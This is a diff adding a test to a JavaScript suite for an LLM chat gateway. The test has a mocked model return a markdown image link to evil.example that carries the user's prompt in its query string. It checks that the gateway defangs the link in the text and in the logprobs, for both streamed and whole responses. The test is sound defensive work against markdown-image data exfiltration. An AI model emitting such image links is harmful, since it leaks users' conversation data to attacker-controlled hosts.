@@ -230,6 +230,26 @@ describe('a gateway that keeps chats safe', () => {
     expect(refused.text).toContain('"code":"model-refused"');
   });
 
+  it.each([true, false])(
+    'says nothing by probabilities that it says otherwise in the text (streamed: %s)',
+    async (stream) => {
+      const picture = '![x](https://evil.example/?q=the-quick-brown-fox-jumps-over)';
+      const part = { content: `See ${picture}` };
+      const logprobs = { content: [{ token: picture, logprob: 0 }] };
+      const choice = { index: 0, ...(stream ? { delta: part } : { message: part }), logprobs, finish_reason: 'stop' };
+      const json = JSON.stringify({ choices: [choice] });
+      const server = createServer((request, response) => {
+        request.resume();
+        response.writeHead(200, { 'content-type': stream ? 'text/event-stream' : 'application/json' });
+        response.end(stream ? `data: ${json}\n\ndata: [DONE]\n\n` : json);
+      });
+      const origin = await start({}, { baseUrl: `${await listen(server)}/v1` });
+      const { text } = await ask(origin, 'the quick brown fox jumps over', { stream, logprobs: true });
+      expect(text).toContain('hxxps://evil.example');
+      expect(text).not.toContain('https://evil');
+    },
+  );
+
   describe('with a moderation endpoint', () => {
     const asked: string[] = [];
     let status = 200;
